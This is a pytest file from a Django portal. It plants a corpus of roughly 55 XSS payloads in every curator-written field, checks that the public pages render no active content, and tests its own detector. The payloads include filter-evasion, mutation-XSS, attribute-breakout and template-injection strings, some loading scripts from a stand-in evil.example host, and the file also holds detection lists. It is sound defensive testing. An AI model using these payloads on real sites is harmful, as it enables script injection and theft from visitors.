"""A corpus of XSS payloads, stored in every field curators write, leaves no active content on any public page."""

import re
from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.utils import translation

from companies.models import Company
from core.templatetags.portal import web_address
from partners.models import Partner
from projects.models import Fund, Project, ProjectImage
from strategy.models import Priority, StrategyPage, Theme
from tests.factories import (
    CompanyFactory,
    ParticipationFactory,
    PartnerFactory,
    ProjectFactory,
    ProjectImageFactory,
    StrategyPageFactory,
)

pytestmark = pytest.mark.django_db

# Each a way to run script, load a resource or restyle a page from text; the id names the trick.
PAYLOADS = {
    "script-tag": "<script>alert(1)</script>",
    "script-src-upper-case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split-comment": "<script>/*</script><script>*/alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onmouseover-quoted": "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-autofocus-onfocus": "<input onfocus=alert(1) autofocus>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "marquee-onstart": "<marquee onstart=alert(1)>",
    "handler-on-allowed-link": '<a href="https://example.fi/" onclick="alert(1)" target="_blank">mixed</a>',
    "javascript-url": '<a href="javascript:alert(1)">click</a>',
    "javascript-url-mixed-case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "javascript-url-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>'
    ),
    "javascript-url-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">hex</a>',
    "javascript-url-colon-entity": '<a href="javascript&colon;alert(1)">colon</a>',
    "javascript-url-tab": '<a href="java&#x09;script:alert(1)">tab</a>',
    "javascript-url-newline": '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    "javascript-url-leading-space": '<a href=" &#14;  javascript:alert(1)">space</a>',
    "javascript-url-bare": "javascript:alert(document.cookie)",
    "vbscript-url": '<a href="vbscript:msgbox(1)">vb</a>',
    "data-url-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "data-url-image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style-attribute-url": '<p style="background:url(javascript:alert(1))">styled</p>',
    "style-attribute-expression": '<div style="width: expression(alert(1))">old IE</div>',
    "style-element": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="https://evil.example/x.swf">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg-style-mxss": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "comment-break": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "namespaced-script": '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    "nested-tag-in-tag": "<p <script>alert(1)</script>>nested</p>",
    "split-script-tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed-tag": "<img src=x onerror=alert(1)//",
    "unclosed-attribute": '<a href="https://example.fi/ onmouseover=alert(1) x="',
    "double-quote-breakout": '"><script>alert(1)</script>',
    "single-quote-breakout": "'><img src=x onerror=alert(1)>",
    "attribute-injection": '" onmouseover="alert(1)" data-x="',
    "title-breakout": "</title><script>alert(1)</script>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "line-separators": "\u2028\u2029<script>alert(1)</script>",
    "template-variable": "{{ 1234|add:4321 }} {{ request.META }}",
    "template-tags": "{% widthratio 1234 1 2 %} {% lorem 3 w %} {% debug %}",
    "data-attribute": '<div data-action="javascript:alert(1)" id="x" class="evil">data attribute</div>',
}

# What a template would have printed had it run the template payloads, and what it printed in debug.
TEMPLATE_OUTPUT = ["5555", "2468", "lorem ipsum dolor", "HTTP_HOST", "sql_queries"]

# Elements that no page of the portal has, each a way to run script, load another document or restyle the page. The
# charts and maps are SVG of our own, but none of it embeds HTML, animates an attribute or uses another document.
FORBIDDEN_ELEMENTS = {
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "foreignobject",
    "animate",
    "set",
    "use",
    "math",
    "noscript",
    "template",
    "xmp",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"}
ACTIVE_SCHEMES = ("javascript:", "vbscript:", "data:")
SCRIPTS_WITHOUT_NONCE = ("/static/js/filters.",)


class ActiveContent(HTMLParser):
    """Everything in a page that could run script, restyle the page or send the visitor elsewhere."""

    def __init__(self, nonce: str):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not self._is_our_script(attributes):
            self.found.append(f"<script {attributes}>")
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        if tag == "form" and not (attributes.get("action") or "").startswith("/"):
            self.found.append(f"<form action={attributes.get('action')!r}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in {"style", "srcdoc", "formaction"}:
                self.found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and is_active_url(value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def _is_our_script(self, attributes):
        # Our own: a static file with the page's nonce, one of the few that pages kept in the page cache load
        # without a nonce (the CSP allows our own origin), or the page's JSON-LD data block (which no browser runs;
        # tests/test_structured_data.py checks there is one only, holding exactly what the entry says).
        src = attributes.get("src") or ""
        if src.startswith("/static/"):
            return attributes.get("nonce") == self.nonce or src.startswith(SCRIPTS_WITHOUT_NONCE)
        return attributes.get("type") == "application/ld+json" and "src" not in attributes


def is_active_url(value: str) -> bool:
    """Tell whether a URL runs script or carries a document, as a browser reads it (ignoring blanks and case)."""
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return squeezed.startswith(ACTIVE_SCHEMES)


def active_content(response) -> list[str]:
    nonce = re.search(r"'nonce-([^']+)'", response.get("Content-Security-Policy", "")) or None
    parser = ActiveContent(nonce=nonce.group(1) if nonce else "")
    parser.feed(response.content.decode())
    parser.close()
    return parser.found


def fit(model, name: str, value: str) -> str:
    """The value cut to what the field holds (PostgreSQL refuses a longer one)."""
    max_length = model._meta.get_field(name).max_length
    return value[:max_length] if max_length else value


def in_every_language(model, payload: str, *names: str) -> dict[str, str]:
    """The payload in each of the fields, in each language (the translations slightly apart, to tell them apart)."""
    values = {}
    for name in names:
        for code, prefix in [("en", ""), ("fi", "fi "), ("sv", "sv ")]:
            values[f"{name}_{code}"] = fit(model, f"{name}_{code}", prefix + payload)
    return values


@dataclass
class HostileSite:
    project_slug: str
    company_slug: str
    partner_slug: str
    page_slug: str
    priority_slug: str


def publish_everywhere(payload: str) -> HostileSite:
    """Write the payload in every text a curator writes: rich text, titles, summaries, captions, names and links."""
    priority = Priority.objects.get(slug="climate-neutrality")
    for name, value in in_every_language(Priority, payload, "name", "tagline", "description").items():
        setattr(priority, name, value)
    priority.save()
    theme = priority.themes.first()
    for name, value in in_every_language(Theme, payload, "name").items():
        setattr(theme, name, value)
    theme.save()
    fund = Fund.objects.get(slug="erdf")
    for name, value in in_every_language(Fund, payload, "name").items():
        setattr(fund, name, value)
    fund.save()

    company = CompanyFactory(
        slug="hostile-company",
        name=fit(Company, "name", payload),
        website=fit(Company, "website", payload),
        capabilities=[payload[:100]],
        priorities=[priority],
        is_open_to_cooperation=True,
        **in_every_language(Company, payload, "summary", "description"),
    )
    partner = PartnerFactory(
        slug="hostile-partner",
        name=fit(Partner, "name", payload),
        city=fit(Partner, "city", payload),
        website=fit(Partner, "website", payload),
        priorities=[priority],
        **in_every_language(Partner, payload, "summary", "description"),
    )
    project = ProjectFactory(
        slug="hostile-project",
        website=fit(Project, "website", payload),
        eura_code=fit(Project, "eura_code", payload),
        kohesio_id=fit(Project, "kohesio_id", payload),
        keep_eu_id=fit(Project, "keep_eu_id", payload),
        cordis_id=fit(Project, "cordis_id", payload),
        is_looking_for_partners=True,
        is_featured=True,
        priorities=[priority],
        themes=[theme],
        funds=[fund],
        tags=[payload[:100]],
        **in_every_language(
            Project, payload, "title", "acronym", "summary", "description", "results", "partners_sought"
        ),
    )
    ProjectImageFactory(
        project=project,
        credit=fit(ProjectImage, "credit", payload),
        **in_every_language(ProjectImage, payload, "alt_text", "caption"),
    )
    ParticipationFactory(project=project, company=company)
    ParticipationFactory(project=project, company=None, partner=partner)
    StrategyPageFactory(slug="hostile-page", **in_every_language(StrategyPage, payload, "title", "summary", "body"))
    return HostileSite(
        project_slug=project.slug,
        company_slug=company.slug,
        partner_slug=partner.slug,
        page_slug="hostile-page",
        priority_slug=priority.slug,
    )


def public_pages(site: HostileSite, payload: str) -> list[str]:
    """Every public page that shows what a curator wrote, and the two that repeat what a visitor typed."""
    in_english = [
        "/en/",
        "/en/projects/",
        f"/en/projects/?q={quote(payload)}",
        f"/en/projects/{site.project_slug}/",
        "/en/companies/",
        f"/en/companies/{site.company_slug}/",
        "/en/partners/",
        f"/en/partners/{site.partner_slug}/",
        f"/en/partners/join/?project={site.project_slug}",
        f"/en/{site.page_slug}/",
        "/en/strategy/",
        f"/en/strategy/{site.priority_slug}/",
        "/en/strategy/figures/",
        "/en/search/?q=project",
        f"/en/search/?q={quote(payload)}",
    ]
    translated = [
        f"/{code}/{path}"
        for code in ["fi", "sv"]
        for path in ["", f"projects/{site.project_slug}/", f"{site.page_slug}/", f"strategy/{site.priority_slug}/"]
    ]
    return in_english + translated


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_in_every_field_leaves_no_active_content_on_any_public_page(client, footer_pages, payload):
    site = publish_everywhere(payload)

    for path in public_pages(site, payload):
        with translation.override("en"):
            response = client.get(path)

        assert response.status_code == 200, path
        assert active_content(response) == [], path
        text = response.content.decode()
        for output in TEMPLATE_OUTPUT:
            assert output not in text, f"{path} ran a template payload: {output}"


def test_corpus_is_large_and_varied():
    assert len(PAYLOADS) >= 30
    assert len(set(PAYLOADS.values())) == len(PAYLOADS)


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<p style="color: red">x</p>',
        "<style>p {}</style>",
        '<iframe src="/"></iframe>',
        '<form action="https://evil.example/"></form>',
        '<meta http-equiv="refresh" content="0">',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<object data="x"></object>',
        '<script type="application/ld+json" nonce="n" src="https://evil.example/x.js"></script>',
        '<script type="module">alert(1)</script>',
        '<script src="/static/js/x.js"></script>',
    ],
)
def test_the_check_itself_finds_active_content(markup):
    parser = ActiveContent(nonce="n")
    parser.feed(markup)

    assert parser.found


def test_the_check_accepts_our_own_scripts_and_forms():
    parser = ActiveContent(nonce="n")
    parser.feed(
        '<script src="/static/js/x.js" nonce="n"></script><form action="/en/search/"></form>'
        '<script type="application/ld+json">{"name": "\\u003C/script\\u003E"}</script>'
    )

    assert parser.found == []


LEGITIMATE = (
    "<h2>Goals</h2><p><strong>Bold</strong>, <em>italic</em> and "
    '<a href="https://www.hel.fi/">a link</a>.</p>'
    "<h3>Steps</h3><ul><li><p>One</p></li><li>Two</li></ul><ol><li>First</li></ol>"
    "<h4>Quote</h4><blockquote><p>Reuse first.</p></blockquote>"
    '<p><abbr title="European Union">EU</abbr> and <a href="mailto:info@example.fi">mail</a>.</p>'
)
LEGITIMATE_MARKUP = [
    "<h2>Goals</h2>",
    "<strong>Bold</strong>",
    "<em>italic</em>",
    '<a href="https://www.hel.fi/" rel="noopener noreferrer">a link</a>',
    "<h3>Steps</h3>",
    "<ul><li><p>One</p></li><li>Two</li></ul>",
    "<ol><li>First</li></ol>",
    "<h4>Quote</h4>",
    "<blockquote><p>Reuse first.</p></blockquote>",
    '<abbr title="European Union">EU</abbr>',
    '<a href="mailto:info@example.fi" rel="noopener noreferrer">mail</a>',
]


@pytest.mark.parametrize(
    ("make", "path"),
    [
        (lambda: ProjectFactory(slug="good", description=LEGITIMATE, results_fi=LEGITIMATE), "projects/good/"),
        (lambda: CompanyFactory(slug="good", description_fi=LEGITIMATE), "companies/good/"),
        (lambda: PartnerFactory(slug="good", description=LEGITIMATE), "partners/good/"),
        (lambda: StrategyPageFactory(slug="good", body=LEGITIMATE), "good/"),
    ],
    ids=["project", "company", "partner", "strategy-page"],
)
@pytest.mark.parametrize("language", ["en", "fi", "sv"])
def test_legitimate_rich_text_survives_in_every_language(client, footer_pages, make, path, language):
    make()

    response = client.get(f"/{language}/{path}")

    assert response.status_code == 200
    for markup in LEGITIMATE_MARKUP:
        assert markup in response.content.decode()
    assert active_content(response) == []


@pytest.mark.parametrize(
    ("address", "is_link"),
    [
        ("https://www.hel.fi/", True),
        ("http://example.fi/path?x=1", True),
        (" HTTPS://EXAMPLE.FI/", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("java\tscript:alert(1)", False),
        (" \njavascript:alert(1)", False),
        ("data:text/html;base64,PHNjcmlwdD4=", False),
        ("vbscript:msgbox(1)", False),
        ("www.example.fi", False),
        ("", False),
    ],
)
def test_only_web_addresses_become_website_links(address, is_link):
    assert web_address(address) is is_link
